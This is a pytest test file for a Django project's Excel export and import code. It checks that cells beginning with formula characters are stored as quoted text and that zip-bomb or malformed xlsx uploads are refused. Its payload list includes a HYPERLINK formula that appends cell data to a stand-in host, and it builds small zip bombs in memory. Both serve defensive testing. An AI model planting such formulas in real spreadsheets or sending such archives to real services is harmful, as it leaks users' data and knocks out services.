"""Workbooks gongzhi writes hold data, never formulas; uploads are checked before parsing."""

import io
import zipfile

import pytest
from django.core.exceptions import ValidationError
from openpyxl import Workbook, load_workbook

from gongzhi.core.excel import (
    append_row,
    check_upload_size,
    check_xlsx,
    set_cell,
    table_workbook,
    workbook_bytes,
)

FORMULAS = ['=HYPERLINK("http://example.invalid/"&A1,"click")', "=1+1", "+1+1", "-2+3", "@SUM(A1)"]


def assert_no_formulas(content: bytes) -> list:
    """Every cell of every sheet; fails if any is a formula."""
    book = load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    return cells


def test_formula_looking_text_is_written_as_text_that_reads_as_typed():
    content = table_workbook("表", ["名称"], [[text] for text in FORMULAS])
    cells = assert_no_formulas(content)
    assert [c.value for c in cells[1:]] == FORMULAS
    assert all(c.quotePrefix for c in cells[1:])  # stays text when someone edits the cell


def test_cells_of_an_editable_workbook_are_protected_too():
    workbook = Workbook()
    append_row(workbook.active, ["=1+1", 3, None, "plain"])
    set_cell(workbook.active, "A2", "=2+2")
    cells = assert_no_formulas(workbook_bytes(workbook))
    assert [c.value for c in cells] == ["=1+1", 3, None, "plain", "=2+2", None, None, None]


def _zip(members: dict[str, bytes]) -> io.BytesIO:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    buffer.seek(0)
    return buffer


def test_an_xlsx_that_unpacks_to_far_more_than_it_weighs_is_refused(settings):
    settings.GZ_IMPORT_MAX_UNPACKED = 4 * 2**20
    bomb = _zip({"xl/worksheets/sheet1.xml": b" " * (8 * 2**20)})  # 8 MB of spaces, ~8 KB packed
    with pytest.raises(ValidationError, match="解压后过大"):
        check_xlsx(bomb)


def test_a_dense_member_is_refused_even_under_the_total_limit(settings):
    bomb = _zip({"xl/sharedStrings.xml": b"a" * (3 * 2**20)})
    with pytest.raises(ValidationError, match="压缩比异常"):
        check_xlsx(bomb)


def test_a_file_that_is_not_an_xlsx_is_refused():
    with pytest.raises(ValidationError, match="无法读取"):
        check_xlsx(io.BytesIO(b"hello"))
    with pytest.raises(ValidationError, match="无法读取"):
        check_xlsx(_zip({"word/document.xml": b"<w/>"}))


def test_an_ordinary_workbook_passes():
    check_xlsx(io.BytesIO(table_workbook("表", ["名称"], [[f"行{n}"] for n in range(1000)])))


def test_an_upload_over_the_size_limit_is_refused(settings):
    settings.GZ_IMPORT_MAX_BYTES = 10 * 2**20
    check_upload_size(10 * 2**20)
    with pytest.raises(ValidationError, match="超过 10 MB"):
        check_upload_size(10 * 2**20 + 1)
